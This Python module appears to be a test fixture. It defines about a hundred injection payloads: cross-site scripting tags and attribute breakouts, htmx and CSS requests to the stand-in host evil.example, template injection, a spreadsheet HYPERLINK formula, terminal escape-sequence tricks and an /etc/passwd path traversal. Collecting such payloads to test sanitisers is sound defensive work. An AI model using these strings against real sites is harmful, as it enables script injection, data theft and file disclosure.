"""What people, commands and machines could write to have a page run a program, or ask another site."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_TAGS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<img srcset=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script href=//evil.example/x.js />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>*{background:url(//evil.example/x.png)}</style>",
    "<p style=background:url(//evil.example/x.png)>x</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button autofocus>x</button>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<video src=//evil.example/x autoplay onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=//evil.example/ ping=//evil.example/>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<div hx-on:load=alert(1) hx-trigger=load hx-get=/>x</div>",
    "<div id=live hx-get=//evil.example/ hx-trigger='every 1s'>x</div>",
    "<div id=curve data-curve='{\"recent\": 1}'>x</div>",
    "<!--><script>alert(1)</script>-->",
]
_OUT_OF = ['">', "'>", "</textarea>", "</title>", "</pre>", "</select>", "-->", "]]>", "</script>", "</style>"]
_ATTRIBUTES = [
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) autofocus onfocus=alert(1) '",
    "` onerror=alert(1) `",
    '" hx-get="//evil.example/" hx-trigger="load" x="',
    '" style="background:url(//evil.example/x.png)" x="',
    '" formaction="javascript:alert(1)" x="',
    "x onfocus=alert(1) autofocus ",
]
_WORDS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "https://evil.example/",
    "{{ 7*7 }}{% include 'login.html' %}{{ site.sessions }}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '=HYPERLINK("http://evil.example/")',
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;\x07<script>alert(1)</script>",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b[38;5;<img src=x onerror=alert(1)>m",
    "\x9b31m<img src=x onerror=alert(1)>",
    "\r\n\r\n<script>alert(1)</script>",
    "<\tscript>alert(1)</script>",
    "<scr\x08\x08\x08<script>alert(1)</script>",
    "../../../../etc/passwd",
]
_BROKEN_OUT = [f"{out}{_TAGS[place * 3 % len(_TAGS)]}" for place, out in enumerate(_OUT_OF * 2)]
_LOUD = [tag.upper().replace("EVIL", "evil") for tag in _TAGS[:10]]

PAYLOADS: list[str] = [*_TAGS, *_ATTRIBUTES, *_WORDS, *_BROKEN_OUT, *_LOUD]
"""A hundred of them."""
